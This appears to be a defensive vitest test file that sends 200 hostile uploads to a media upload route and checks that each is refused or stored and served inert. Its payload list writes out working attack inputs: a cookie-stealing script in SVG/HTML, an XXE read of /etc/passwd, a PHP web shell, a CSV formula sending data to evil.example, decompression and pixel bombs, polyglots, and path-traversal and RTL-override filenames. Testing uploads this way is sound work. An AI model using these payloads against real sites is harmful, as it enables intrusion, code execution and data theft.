// 200 hostile files (25 payloads x 8 names) against the upload route: scripts in disguise, polyglots, archives,
// executables, bombs, truncated and lying files, hostile names. Each is refused with a 4xx, or stored under a
// generated name as the type its bytes prove, re-encoded when it is an image, and served so that no browser
// runs it (docs/security.md, "Uploads"). Never a 5xx, never a file left in the upload folder.
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, multipart, type TestApp, userWithTokens } from '../../test/helpers';

let t: TestApp;
let staff: Awaited<ReturnType<typeof userWithTokens>>;
beforeAll(async () => {
  t = await createTestApp({ uploadAllowance: { perHour: 10_000, quotaBytes: 1e9 } });
  staff = await userWithTokens(t, { role: 1 });
});
afterAll(async () => {
  await t.close();
});

const script = '<script>alert(document.cookie)</script>';

/** A PNG header (signature + IHDR) claiming `width` x `height`, with no image data behind it. */
function pngHeader(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.writeUInt8(8, 8);
  ihdr.writeUInt8(2, 9);
  const chunk = Buffer.concat([Buffer.from([0, 0, 0, 13]), Buffer.from('IHDR'), ihdr, Buffer.alloc(4)]);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk]);
}

/** A minimal zip holding one entry `name` with `content` (stored, not compressed). */
function zip(name: string, content: Buffer): Buffer {
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  return Buffer.concat([local, Buffer.from(name), content]);
}

/** What each payload is, and what must happen: refused, or accepted as one of these types. */
type Expect = 'refused' | string[];

async function payloads(): Promise<{ name: string; bytes: Buffer; expect: Expect }[]> {
  const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#123456' } })
    .png()
    .toBuffer();
  const jpeg = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#654321' } })
    .jpeg()
    .toBuffer();
  const gif = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#000' } })
    .gif()
    .toBuffer();
  const text = (s: string) => Buffer.from(s, 'utf8');
  return [
    {
      name: 'svg-script',
      bytes: text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
      expect: 'refused',
    },
    {
      name: 'svg-xml-header',
      bytes: text(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`),
      expect: 'refused',
    },
    { name: 'html', bytes: text(`<!doctype html><html><body>${script}</body></html>`), expect: 'refused' },
    { name: 'html-bom', bytes: text(`\uFEFF  <html>${script}</html>`), expect: 'refused' },
    {
      name: 'xxe',
      bytes: text('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
      expect: 'refused',
    },
    { name: 'php', bytes: text('<?php system($_GET["c"]); ?>'), expect: 'refused' },
    {
      name: 'elf',
      bytes: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(64)]),
      expect: 'refused',
    },
    {
      name: 'windows-exe',
      bytes: Buffer.concat([text('MZ'), Buffer.alloc(62), text('PE\0\0'), Buffer.alloc(64)]),
      expect: 'refused',
    },
    { name: 'zip', bytes: zip('evil.html', text(script)), expect: 'refused' },
    { name: 'gzip-bomb', bytes: zlib.gzipSync(Buffer.alloc(5_000_000)), expect: 'refused' },
    {
      name: 'gif-js-polyglot',
      bytes: Buffer.concat([gif, text(`*/=1;alert(1)//${script}`)]),
      expect: ['image/gif'],
    },
    {
      name: 'png-with-html-tail',
      bytes: Buffer.concat([png, text(`<html>${script}</html>`)]),
      expect: ['image/png'],
    },
    { name: 'jpeg-with-script-tail', bytes: Buffer.concat([jpeg, text(script)]), expect: ['image/jpeg'] },
    { name: 'png-header-only', bytes: pngHeader(16, 16), expect: 'refused' },
    { name: 'png-pixel-bomb', bytes: pngHeader(65_535, 65_535), expect: 'refused' },
    {
      name: 'pdf-javascript',
      bytes: text(
        '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF',
      ),
      expect: ['application/pdf'],
    },
    { name: 'pdf-truncated', bytes: text('%PDF-1.7\n%'), expect: ['application/pdf'] },
    { name: 'empty', bytes: Buffer.alloc(0), expect: 'refused' },
    { name: 'nul-bytes', bytes: Buffer.from([0, 0, 0, 0, 1, 2, 3]), expect: 'refused' },
    { name: 'not-utf8', bytes: Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xff]), expect: 'refused' },
    {
      name: 'mp4-header-only',
      bytes: Buffer.concat([Buffer.from([0, 0, 0, 0x18]), text('ftypmp42'), Buffer.alloc(12)]),
      expect: ['video/mp4'],
    },
    {
      name: 'webm-header-only',
      bytes: Buffer.from([
        0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86, 0x81, 0x01, 0x42, 0x82, 0x84, 0x77, 0x65, 0x62, 0x6d,
      ]),
      expect: ['video/webm', 'refused'] as unknown as string[],
    },
    {
      name: 'csv-formula',
      bytes: text('=HYPERLINK("http://evil.example/?"&A1,"click")\n'),
      expect: ['text/plain; charset=utf-8'],
    },
    {
      name: 'rtl-override-text',
      bytes: text('harmless \u202Etxt.exe\n'),
      expect: ['text/plain; charset=utf-8'],
    },
    {
      name: 'random-bytes',
      bytes: Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 7919 + 13) % 256)),
      expect: 'refused',
    },
  ];
}

const names = [
  (p: string) => `${p}.png`,
  () => '../../../../etc/passwd',
  (p: string) => `${p}.php.jpg`,
  () => 'photo\u202Egnp.exe',
  () => `${'x'.repeat(300)}.png`,
  () => 'con.png',
  () => '%00evil.html',
  (p: string) => `файл-${p}.pdf`,
];

describe('200 hostile files', () => {
  it('are refused with a 4xx or stored as what their bytes prove and served inert', async () => {
    const all = await payloads();
    expect(all.length * names.length).toBeGreaterThanOrEqual(200);
    const outcomes = { refused: 0, stored: 0 };
    const problems: string[] = [];
    for (const p of all) {
      for (const name of names) {
        const filename = name(p.name);
        const form = multipart({
          temporary_id: 'hostile-1',
          is_supplementary: 'false',
          file: { filename, contentType: 'image/png', content: p.bytes },
        });
        const res = await t.app.inject({
          method: 'POST',
          url: '/api/media/upload-media',
          headers: { ...staff.headers, ...form.headers },
          payload: form.payload,
        });
        const label = `${p.name} as "${filename.slice(0, 40)}"`;
        if (res.statusCode >= 500) problems.push(`${label}: ${res.statusCode} ${res.body}`);
        if (res.statusCode !== 201) {
          outcomes.refused += 1;
          if (![400, 413, 415, 422].includes(res.statusCode)) problems.push(`${label}: ${res.statusCode}`);
          if (Array.isArray(p.expect) && !p.expect.includes('refused'))
            problems.push(`${label}: refused (${res.statusCode}) but its bytes are ${p.expect.join('|')}`);
          continue;
        }
        outcomes.stored += 1;
        const media = res.json().data as { file_name: string; mime_type: string; url: string };
        if (p.expect === 'refused') problems.push(`${label}: stored as ${media.mime_type}`);
        else if (!p.expect.includes(media.mime_type)) problems.push(`${label}: stored as ${media.mime_type}`);
        if (!/^\d{4}\/\d{2}\/[0-9a-f-]{36}\.[a-z0-9]+$/.test(media.file_name))
          problems.push(`${label}: stored under ${media.file_name}`);
        const served = await t.app.inject({
          method: 'GET',
          url: media.url,
          headers: staff.headers,
        });
        if (served.statusCode !== 200) {
          problems.push(`${label}: served ${served.statusCode}`);
          continue;
        }
        if (served.headers['content-type'] !== media.mime_type)
          problems.push(`${label}: served as ${served.headers['content-type']}`);
        if (served.headers['x-content-type-options'] !== 'nosniff') problems.push(`${label}: sniffable`);
        if (!String(served.headers['content-security-policy']).includes('sandbox'))
          problems.push(`${label}: served without the sandbox policy`);
        if (
          media.mime_type.startsWith('text/') &&
          !String(served.headers['content-disposition']).startsWith('attachment')
        )
          problems.push(`${label}: text shown in place`);
        if (media.mime_type.startsWith('image/') && served.rawPayload.includes(Buffer.from('<script')))
          problems.push(`${label}: the image still carries the script (not re-encoded)`);
      }
    }
    const left = fs.existsSync(t.config.uploadTmpDir) ? fs.readdirSync(t.config.uploadTmpDir) : [];
    expect(left).toEqual([]);
    const stored = fs.existsSync(t.config.mediaDir)
      ? (fs.readdirSync(t.config.mediaDir, { recursive: true }) as string[]).filter((f) =>
          fs.statSync(path.join(t.config.mediaDir, f)).isFile(),
        )
      : [];
    expect(stored.every((f) => !f.includes('..') && !/etc|passwd|\.php|\.exe|\.html/.test(f))).toBe(true);
    console.log(`hostile files: ${outcomes.refused} refused, ${outcomes.stored} stored inert`);
    expect(problems).toEqual([]);
  }, 300_000);
});
